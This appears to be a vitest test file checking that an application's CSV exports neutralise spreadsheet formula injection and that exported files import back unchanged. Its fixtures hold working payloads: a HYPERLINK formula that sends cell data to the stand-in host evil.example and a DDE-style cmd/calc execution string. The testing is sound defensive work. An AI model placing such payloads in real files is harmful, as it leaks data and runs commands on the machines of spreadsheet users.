/**
 * Formula injection through exports (OWASP "CSV injection"): text a member typed that starts
 * with =, +, -, @ (or a tab / CR) must reach a spreadsheet as text, not as a formula; real
 * numbers, negative ones included, stay numbers; and our own files import back unchanged.
 */
import { readCsvRows } from "@tsumugi/plan-io";
import { describe, expect } from "vitest";
import type { TestServer } from "../testing/fixtures.js";
import { workspaceTest as it, type WorkspaceWorld } from "../testing/workspace-world.js";

const HOSTILE = {
  source: '=HYPERLINK("https://evil.example/?"&A1,"出典")',
  note: "+1+cmd|' /C calc'!A0",
};

async function download(server: TestServer, world: WorkspaceWorld, path: string): Promise<string> {
  const res = await fetch(`${server.origin}${world.base}${path}`, {
    headers: { Cookie: world.member.browser.cookie ?? "" },
  });
  expect(res.status).toBe(200);
  return new TextDecoder().decode(new Uint8Array(await res.arrayBuffer()));
}

describe("CSV exports", () => {
  it("write typed text that a spreadsheet would run as text, and keep numbers as numbers", async ({
    server,
    world,
  }) => {
    const created = await world.admin.browser.post<{ id: string }>(`${world.base}/indicators`, {
      code: "X01",
      name: "@SUM(1+1)*cmd",
      type: "P",
      kind: "score",
      unit: "点",
      source: "-2+3",
      notes: "=1+1",
    });
    expect(created.status).toBe(201);
    const put = await world.admin.browser.request(
      "PUT",
      `${world.base}/indicators/${created.body.id}/values`,
      {
        fiscalYear: 2023,
        value: -5,
        target: -1.5,
        ...HOSTILE,
      },
    );
    expect(put.status).toBe(200);

    const values = await download(server, world, "/indicators/export.csv");
    const line = values.split("\r\n").find((l) => l.startsWith("X01,"));
    // Every hostile cell starts with an apostrophe inside quotes; the numbers are bare.
    expect(line).toBe(
      `X01,"'@SUM(1+1)*cmd",2023,,-5,,,-1.5,"'=HYPERLINK(""https://evil.example/?""&A1,""出典"")","'+1+cmd|' /C calc'!A0"`,
    );
    const definitions = await download(server, world, "/indicators/definitions.csv");
    expect(definitions.split("\r\n").find((l) => l.startsWith("X01,"))).toBe(
      `X01,"'@SUM(1+1)*cmd",P,点,score,none,up,"'-2+3","'=1+1",,,0,`,
    );
    // No cell of either file starts with a formula character once parsed.
    for (const csv of [values, definitions]) {
      for (const row of readRaw(csv)) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
    }
  });

  it("import back what they exported, hostile text included", async ({ server, world }) => {
    const list = await world.admin.browser.get<{ indicators: { id: string; code: string }[] }>(
      `${world.base}/indicators`,
    );
    const s04 = list.body.indicators.find((i) => i.code === "S04")?.id ?? "";
    await world.admin.browser.request("PUT", `${world.base}/indicators/${s04}/values`, {
      fiscalYear: 2023,
      value: 12,
      ...HOSTILE,
    });
    const rows = readCsvRows(await download(server, world, "/indicators/export.csv"));
    const preview = await world.admin.browser.post<{
      rows: { code: string; source: string; note: string; value: number }[];
      issues: unknown[];
    }>(`${world.base}/indicators/import`, { dryRun: true, rows });
    expect(preview.body.issues).toEqual([]);
    expect(preview.body.rows).toEqual([
      expect.objectContaining({ code: "S04", value: 12, source: HOSTILE.source, note: HOSTILE.note }),
    ]);
  });
});

/** The cells as stored in the file (quotes removed, nothing else undone). */
function readRaw(csv: string): string[][] {
  const rows: string[][] = [];
  for (const line of csv
    .replace(/^\uFEFF/, "")
    .split("\r\n")
    .filter(Boolean)) {
    const cells: string[] = [];
    const re = /("((?:[^"]|"")*)"|[^,]*)(,|$)/g;
    for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
      cells.push(m[2] !== undefined ? m[2].replace(/""/g, '"') : m[1]);
      if (m[3] === "") break;
    }
    rows.push(cells);
  }
  return rows;
}
